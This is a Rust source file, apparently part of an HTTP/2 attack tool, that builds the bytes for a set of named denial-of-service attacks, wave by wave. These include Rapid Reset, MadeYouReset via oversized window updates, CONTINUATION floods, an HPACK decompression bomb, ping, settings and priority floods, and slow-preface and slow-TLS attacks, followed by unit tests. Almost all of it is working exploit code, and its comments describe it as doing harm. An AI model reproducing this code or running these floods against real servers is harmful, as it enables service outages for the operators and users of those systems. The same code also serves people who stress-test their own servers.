//! The frames of an attack, wave by wave.

use super::super::client::PREFACE;
use super::super::code;
use super::super::frame::{Frame, flag, setting};
use super::super::hpack::{block, incremental, indexed, literal};
use super::super::requests::{get, post, request};
use super::Attack;

/// Streams that a server usually allows.
const STREAMS: u32 = 100;
/// Requests in a wave.
const REQUESTS: u32 = 50;
/// Small frames in a wave.
const SMALL: usize = 500;

/// One connection's worth of harm.
pub(super) struct Flood {
    attack: Attack,
    path: String,
    /// Of the next request.
    stream: u32,
    waves: usize,
}

impl Flood {
    pub(super) fn new(attack: Attack, path: &str) -> Self {
        Self { attack, path: path.to_owned(), stream: 1, waves: 0 }
    }

    /// What comes first.
    pub(super) fn opening(&mut self) -> Vec<u8> {
        let window = if self.attack == Attack::Dribble { 0 } else { 65_535 };
        let settings = Frame::settings(&[(setting::INITIAL_WINDOW_SIZE, window)]);
        let mut bytes = match self.attack {
            Attack::SlowPreface | Attack::SlowTls => return Vec::new(),
            _ => [PREFACE, settings.bytes().as_slice(), &Frame::settings_ack().bytes()].concat(),
        };
        match self.attack {
            Attack::Continuations | Attack::EmptyContinuations => {
                bytes.extend(Frame::headers(1, flag::END_STREAM, block(&request("GET", "/"))).bytes());
            }
            Attack::EmptyData => bytes.extend(post(1, "/", &[]).bytes()),
            Attack::Dribble => bytes.extend(self.requests(STREAMS, |stream, path| vec![get(stream, path)])),
            _ => {}
        }
        bytes
    }

    /// What comes next.
    pub(super) fn wave(&mut self) -> Vec<u8> {
        self.waves += 1;
        match self.attack {
            Attack::RapidReset => self
                .requests(REQUESTS, |stream, _| vec![get(stream, "/"), Frame::reset(stream, code::CANCEL)]),
            Attack::MadeYouReset => {
                self.requests(REQUESTS, |stream, _| vec![get(stream, "/"), provoke(stream)])
            }
            Attack::MalformedRequests => self.requests(REQUESTS, |stream, _| {
                let section = block(&[(":method", "GET"), (":path", "/")]);
                vec![Frame::headers(stream, flag::END_HEADERS | flag::END_STREAM, section)]
            }),
            Attack::Continuations => {
                let fragment = literal(format!("x-{}", self.waves), "x".repeat(1000));
                Frame::continuation(1, flag::NONE, fragment).bytes().repeat(16)
            }
            Attack::EmptyContinuations => small(&Frame::continuation(1, flag::NONE, [])),
            Attack::Settings => small(&Frame::settings(&[(setting::INITIAL_WINDOW_SIZE, 65_535)])),
            Attack::Pings => small(&Frame::ping([0; 8])),
            Attack::HpackBomb => self.requests(4, |stream, _| vec![bomb(stream)]),
            Attack::EmptyData => small(&Frame::data(1, flag::NONE, [])),
            Attack::Priorities => {
                [Frame::priority(1, 3).bytes(), Frame::priority(3, 1).bytes()].concat().repeat(SMALL)
            }
            Attack::WindowUpdates => small(&Frame::window_update(0, 1)),
            Attack::Dribble => {
                let streams = (1..2 * STREAMS).step_by(2);
                streams.flat_map(|stream| Frame::window_update(stream, 1).bytes()).collect()
            }
            Attack::SlowPreface => vec![PREFACE[(self.waves - 1) % PREFACE.len()]],
            Attack::SlowTls => vec![hello((self.waves - 1) % 512)],
        }
    }

    /// Frames for so many requests, each with a stream of its own.
    fn requests(&mut self, count: u32, frames: impl Fn(u32, &str) -> Vec<Frame>) -> Vec<u8> {
        let streams = (self.stream..).step_by(2).take(count as usize);
        let bytes = streams.flat_map(|stream| frames(stream, &self.path)).flat_map(|frame| frame.bytes());
        let bytes = bytes.collect();
        self.stream += 2 * count;
        bytes
    }
}

fn small(frame: &Frame) -> Vec<u8> {
    frame.bytes().repeat(SMALL)
}

/// A window beyond its bound, which is this stream's fault alone (RFC 9113 section 6.9.1). Other faults, such as DATA
/// behind END_STREAM, may end the connection instead, and the attack with it.
fn provoke(stream: u32) -> Frame {
    Frame::window_update(stream, i32::MAX as u32)
}

/// One entry of 4,000 bytes, named 12,000 times.
fn bomb(stream: u32) -> Frame {
    let mut section = block(&request("GET", "/"));
    section.extend(incremental("x", "x".repeat(4000)));
    section.extend(indexed(62).repeat(12_000));
    Frame::headers(stream, flag::END_HEADERS | flag::END_STREAM, section)
}

/// A byte of a ClientHello whose length is 512: enough to be waited for.
fn hello(at: usize) -> u8 {
    const BEGIN: [u8; 11] = [22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];
    BEGIN.get(at).copied().unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_fits_into_a_frame() {
        let length = bomb(1).payload.len();
        assert!(length <= 16_384, "{length} bytes");
    }

    #[test]
    fn no_stream_is_used_twice() {
        let mut flood = Flood::new(Attack::RapidReset, "/");
        let (one, two) = (flood.wave(), flood.wave());
        assert_eq!(one[5..9], 1_u32.to_be_bytes());
        assert_eq!(two[5..9], (1 + 2 * REQUESTS).to_be_bytes());
    }

    #[test]
    fn a_slow_preface_is_the_preface() {
        let mut flood = Flood::new(Attack::SlowPreface, "/");
        let sent: Vec<u8> = (0..PREFACE.len()).flat_map(|_| flood.wave()).collect();
        assert_eq!(sent, PREFACE);
    }
}
